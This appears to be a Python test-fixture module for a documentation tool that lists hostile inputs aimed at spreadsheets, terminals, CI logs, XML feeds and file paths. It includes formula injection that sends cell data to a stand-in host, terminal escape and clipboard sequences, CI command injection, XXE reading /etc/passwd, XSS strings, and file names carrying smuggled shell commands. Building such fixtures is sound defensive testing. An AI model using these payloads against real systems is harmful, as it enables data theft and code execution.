"""Texts that steer what is no page: spreadsheets, terminals, CI, feed readers, file systems."""

from __future__ import annotations

from itertools import product

_FORMULAS = tuple(
    opener + core
    for opener, core in product(
        (
            "=",
            "+",
            "-",
            "@",
            "\t=",
            "\r=",
            "\n=",
            " =",
            '"=',
            "'=",
            "\uff1d",
            "\ufeff=",
            ";=",
            ",=",
        ),
        (
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://foreign.example/?x="&A1,"words")',
            'WEBSERVICE("http://foreign.example/")',
            "1+1",
            'IMPORTXML(CONCAT("http://foreign.example/?v=",A1),"//a")',
        ),
    )
)

_ESCAPES = tuple(
    form.format(core=core)
    for form, core in product(
        (
            "\x1b[2J{core}",
            "\x1b[31m{core}\x1b[0m",
            "\x1b]0;{core}\x07",
            "\x1b]8;;https://foreign.example/\x1b\\{core}\x1b]8;;\x1b\\",
            "\x1b]52;c;d29yZHM=\x07{core}",
            "\x1b]1337;File=inline=1:x\x07{core}",
            "\x1bP+q544e\x1b\\{core}",
            "\x9b31m{core}",
            "\x9d0;{core}\x9c",
            "\x90{core}\x9c",
            "words\r{core}",
            "words\b\b\b\b\b{core}",
            "\x7f\x7f{core}",
            "\x07{core}",
            "\x0e{core}\x0f",
            "\u202e{core}",
            "\u2067{core}",
            "words\u2028{core}",
            "\x85{core}",
        ),
        ("words", "<script>alert(1)</script>"),
    )
)

_COMMANDS = tuple(
    before + command
    for before, command in product(
        ("", "\n", "words\n", "\r", "%0A", "\u2028"),
        (
            "::set-output name=x::words",
            "::set-env name=PATH::words",
            "::add-path::/tmp",
            "::add-mask::words",
            "::stop-commands::x",
            "::error file=x,line=1::words",
            "::warning::%0A::error::words",
            "::group::words",
            "::endgroup::",
            "::debug::words",
            "::save-state name=x::words",
            "##[group]words",
            "##[error]words",
            "##vso[task.setvariable variable=x]words",
            "##teamcity[message text='words']",
            "section_start:1:words[collapsed=true]\r\x1b[0Kwords",
            "[command]words",
        ),
    )
)

_FEEDS = (
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "<?xml-stylesheet type='text/xsl' href='//foreign.example/x.xsl'?>",
    "</title></entry><entry><title>words</title>",
    "</content><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "&lt;![CDATA[&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xhtml:script xmlns:xhtml='http://www.w3.org/1999/xhtml'>alert(1)</xhtml:script>",
    "&nbsp;&copy;&undefined;&#0;&#xD800;&#xFFFE;",
    "\x00\x01\x08\x0b\x0c\x0e\ufffe\uffff",
)

_PATHS = (
    "../../mkdocs.yml",
    "..\\..\\mkdocs.yml",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\foreign.example\\share\\x",
    "~/.ssh/id_rsa",
    "words/../../x.png",
    "%2e%2e%2f%2e%2e%2fx.png",
    "con.png",
    "words.png\x00.md",
    "words\u202egnp.exe",
    "-rf",
    "--output=/tmp/x",
    "$(id).png",
    "`id`.png",
    "words;id.png",
    "words|id.png",
    "words'onerror='alert(1).png",
    "words(1).png",
    "words[1]{onclick=alert(1)}.png",
    "words#x.png",
    "words?x=1.png",
    "words%22onerror=alert(1).png",
    "words&amp;.png",
    "javascript:alert(1).png",
    "words words.png",
    "*words*_words_.png",
    "words`.png",
)

CLASSES = {
    "formulas": _FORMULAS,
    "escapes": _ESCAPES,
    "commands": _COMMANDS,
    "feeds": _FEEDS,
    "paths": _PATHS,
}
